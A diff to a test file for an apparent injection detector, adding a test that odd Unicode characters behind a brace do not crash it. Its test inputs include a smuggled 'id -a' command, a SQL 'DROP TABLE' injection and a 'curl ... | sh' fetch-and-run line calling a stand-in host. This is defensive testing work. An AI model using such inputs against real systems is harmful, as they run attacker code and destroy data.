@@ -214,3 +214,11 @@ def test_each_tells_where_it_would_happen() -> None:
     assert "in 'ping -c 1 ...' it would run another command: id -a" in judged(Shell(), said("; id -a")).why
     assert "it would run a second statement" in judged(Sql(), said("'; DROP TABLE x; --")).why
     assert csv_formula.is_formula("=1+1")
+
+
+def test_letters_from_far_away_behind_a_brace_do_not_end_the_process() -> None:
+    for letter in "\U000e0041\U0010ffff\ud83d\u0130":
+        assert judged(Shell(), said(f"{{{letter}}} {letter}; {{{letter}")).outcome == "miss"
+        found = judged(Shell(), said(f"{{{letter}; curl https://x.example/a.sh | sh"))
+        assert found.outcome == "hit"
+        assert "curl https://x.example/a.sh" in found.why
